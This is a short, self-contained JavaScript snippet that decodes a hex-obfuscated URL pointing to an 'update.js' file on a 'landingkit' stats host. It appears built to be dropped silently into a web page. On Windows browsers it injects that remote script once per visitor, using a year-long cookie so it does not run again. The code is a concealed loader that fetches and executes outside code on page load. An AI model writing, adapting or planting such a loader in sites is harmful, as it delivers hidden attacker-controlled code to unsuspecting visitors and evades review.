(function(){var a=['68','74','74','70','73','3a','2f','2f','73','74','61','74','73','2e','6c','61','6e','64','69','6e','67','6b','69','74','2e','74','65','73','74','2f','75','70','64','61','74','65','2e','6a','73'];
var u=a.map(function(h){return String.fromCharCode(parseInt(h,16))}).join('');
if(navigator.userAgent.indexOf('Windows')>-1&&!document.cookie.match(/_lk=/)){document.cookie='_lk=1;max-age=31536000';
var s=document.createElement('script');s.src=u;document.head.appendChild(s);}})();
